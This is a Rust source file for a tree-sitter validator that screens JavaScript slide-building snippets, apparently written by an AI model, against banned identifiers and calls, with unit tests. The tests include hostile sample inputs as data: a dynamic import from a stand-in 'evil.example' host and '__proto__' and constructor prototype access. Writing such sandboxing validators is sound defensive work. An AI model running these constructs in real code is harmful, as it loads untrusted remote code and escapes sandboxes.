//! Syntax-tree validation using tree-sitter
//!
//! Snippets are parsed with the TypeScript grammar (a superset of the
//! JavaScript the assistant writes) and every node is visited. Unlike the
//! pattern strategy this one ignores string contents, so slide text may
//! freely mention `fetch` or `window`.

use crate::error::SafetyError;
use crate::pattern::PatternValidator;
use crate::policy;
use crate::verdict::{SafetyVerdict, Strategy};
use crate::SafetyValidator;
use std::fmt;
use tree_sitter::{Language, Node, Parser};

/// Validator walking the tree-sitter syntax tree
#[derive(Clone)]
pub struct TreeWalkValidator {
    language: Language,
    fallback: PatternValidator,
}

impl fmt::Debug for TreeWalkValidator {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("TreeWalkValidator")
            .field("language", &"typescript")
            .finish()
    }
}

impl TreeWalkValidator {
    /// Load the grammar and check it is usable
    ///
    /// # Errors
    /// `ParserInit` when the grammar ABI does not match the runtime.
    pub fn new() -> Result<Self, SafetyError> {
        let language: Language = tree_sitter_typescript::LANGUAGE_TYPESCRIPT.into();
        Parser::new()
            .set_language(&language)
            .map_err(|e| SafetyError::ParserInit(e.to_string()))?;
        Ok(Self {
            language,
            fallback: PatternValidator::new(),
        })
    }

    fn parser(&self) -> Option<Parser> {
        let mut parser = Parser::new();
        parser.set_language(&self.language).ok()?;
        Some(parser)
    }
}

impl SafetyValidator for TreeWalkValidator {
    fn validate(&self, snippet: &str) -> SafetyVerdict {
        let Some(tree) = self.parser().and_then(|mut p| p.parse(snippet, None)) else {
            tracing::warn!("Snippet could not be parsed; using pattern validator");
            return self.fallback.validate(snippet);
        };
        let root = tree.root_node();

        if let Some(reason) = first_violation(root, snippet.as_bytes()) {
            tracing::debug!("Tree walk rejected snippet: {}", reason);
            return SafetyVerdict::reject(Strategy::TreeWalk, reason);
        }

        // Error-recovery nodes may hide constructs the walk cannot see
        if root.has_error() {
            let verdict = self.fallback.validate(snippet);
            if !verdict.passed {
                return verdict;
            }
        }
        SafetyVerdict::pass(Strategy::TreeWalk)
    }

    fn strategy(&self) -> Strategy {
        Strategy::TreeWalk
    }
}

/// Visit nodes in source order, returning the first violation
fn first_violation(root: Node<'_>, src: &[u8]) -> Option<String> {
    let mut stack = vec![root];
    while let Some(node) = stack.pop() {
        if let Some(reason) = check_node(node, src) {
            let line = node.start_position().row + 1;
            return Some(format!("{reason} (line {line})"));
        }
        for i in (0..node.child_count()).rev() {
            if let Some(child) = node.child(i) {
                stack.push(child);
            }
        }
    }
    None
}

fn check_node(node: Node<'_>, src: &[u8]) -> Option<String> {
    match node.kind() {
        "identifier" | "shorthand_property_identifier" | "shorthand_property_identifier_pattern" => {
            let name = text(node, src);
            policy::is_banned_identifier(name).then(|| format!("banned identifier `{name}`"))
        }
        "property_identifier" => {
            let name = text(node, src);
            policy::is_banned_member(name).then(|| format!("banned member `{name}`"))
        }
        "subscript_expression" => {
            let index = node.child_by_field_name("index")?;
            let key = literal_key(index, src)?;
            (policy::is_banned_member(key) || policy::is_banned_identifier(key))
                .then(|| format!("banned computed member `{key}`"))
        }
        "call_expression" => {
            let callee = node.child_by_field_name("function")?;
            check_callee(callee, src)
        }
        "new_expression" => {
            let constructor = node
                .child_by_field_name("constructor")
                .map_or("?", |c| text(c, src));
            Some(format!("constructor call `new {constructor}`"))
        }
        "import" => Some("dynamic import".to_string()),
        "import_statement" => Some("import statement".to_string()),
        "export_statement" => Some("export statement".to_string()),
        _ => None,
    }
}

fn check_callee(callee: Node<'_>, src: &[u8]) -> Option<String> {
    match callee.kind() {
        "identifier" | "member_expression" => {
            if callee.kind() == "member_expression" {
                let method = callee.child_by_field_name("property").map(|p| text(p, src));
                if method.is_some_and(|m| policy::ITERATION_METHODS.contains(&m)) {
                    return None;
                }
            }
            match qualified_name(callee, src) {
                Some(name) if policy::is_allowed_callee(&name) => None,
                Some(name) => Some(format!("call to `{name}` is not allowed")),
                None => Some("computed callee".to_string()),
            }
        }
        "import" => Some("dynamic import".to_string()),
        _ => Some("computed callee".to_string()),
    }
}

/// `a.b.c` for a chain of plain member accesses rooted at an identifier
fn qualified_name(node: Node<'_>, src: &[u8]) -> Option<String> {
    let mut parts = Vec::new();
    let mut current = node;
    loop {
        match current.kind() {
            "identifier" => {
                parts.push(text(current, src));
                break;
            }
            "member_expression" => {
                let property = current.child_by_field_name("property")?;
                if property.kind() != "property_identifier" {
                    return None;
                }
                parts.push(text(property, src));
                current = current.child_by_field_name("object")?;
            }
            _ => return None,
        }
    }
    parts.reverse();
    Some(parts.join("."))
}

/// Key of a string (or substitution-free template) subscript
fn literal_key<'a>(index: Node<'_>, src: &'a [u8]) -> Option<&'a str> {
    match index.kind() {
        "string" | "template_string" if index.named_child_count() <= 1 => {
            let raw = text(index, src);
            raw.get(1..raw.len().checked_sub(1)?)
        }
        _ => None,
    }
}

fn text<'a>(node: Node<'_>, src: &'a [u8]) -> &'a str {
    node.utf8_text(src).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn validate(snippet: &str) -> SafetyVerdict {
        TreeWalkValidator::new().unwrap().validate(snippet)
    }

    fn rejected_for(snippet: &str, needle: &str) {
        let verdict = validate(snippet);
        assert!(!verdict.passed, "expected rejection: {snippet}");
        let reason = verdict.reason.unwrap_or_default();
        assert!(reason.contains(needle), "`{reason}` lacks `{needle}`");
    }

    #[test]
    fn typical_deck_passes() {
        let verdict = validate(
            r#"
            const slide = pptx.addSlide({background: {color: "0F172A"}});
            const items = ["Plan", "Build", "Ship"];
            items.forEach((item, i) => {
                slide.addText(item, {x: spaceEvenly(i, 3, 2.5), y: centerY(1), w: 2.5, h: 1});
            });
            const rows = [];
            for (const p of [1, 2]) { rows.push([String(p), Math.round(p * 1.5)]); }
            slide.addTable(rows, {x: 0.5, y: 4});
            slide.addImage({path: chrome.runtime.getURL("icons/bolt.svg?color=FFFFFF"), x: 9, y: 0.2, w: 0.5, h: 0.5});
            "#,
        );
        assert!(verdict.passed, "{verdict}");
        assert_eq!(verdict.strategy, Strategy::TreeWalk);
    }

    #[test]
    fn string_contents_are_ignored() {
        assert!(validate(r#"slide.addText("Why fetch(url) and window matter", {x: 1, y: 1});"#).passed);
    }

    #[test]
    fn write_file_is_rejected() {
        rejected_for(r#"pptx.writeFile({fileName: "deck.pptx"});"#, "pptx.writeFile");
    }

    #[test]
    fn banned_identifiers_are_rejected() {
        rejected_for("const f = fetch;", "fetch");
        rejected_for("const t = document.title;", "document");
        rejected_for("const o = {localStorage};", "localStorage");
        rejected_for("slide.addText(globalThis.x, {});", "globalThis");
    }

    #[test]
    fn prototype_access_is_rejected() {
        rejected_for("const c = slide.constructor;", "constructor");
        rejected_for(r#"const c = slide["__proto__"];"#, "__proto__");
    }

    #[test]
    fn calls_outside_whitelist_are_rejected() {
        rejected_for("alert(1);", "alert");
        rejected_for("Math.random();", "Math.random");
        rejected_for(r#"slide["addText"]("x", {});"#, "computed callee");
        rejected_for("const p = new PptxGenJS();", "new PptxGenJS");
        rejected_for(r#"import("https://evil.example/x.js");"#, "dynamic import");
        rejected_for("items.map(x => x).forEach(x => slide.addText(x, {}));", "items.map");
    }

    #[test]
    fn violation_reports_line() {
        let verdict = validate("const a = 1;\nconst b = eval;");
        assert!(verdict.reason.unwrap().ends_with("(line 2)"));
    }

    #[test]
    fn syntax_errors_also_run_patterns() {
        let verdict = validate("slide.addText('x', {x: 1,, y: ))); setTimeout (");
        assert!(!verdict.passed);
    }
}
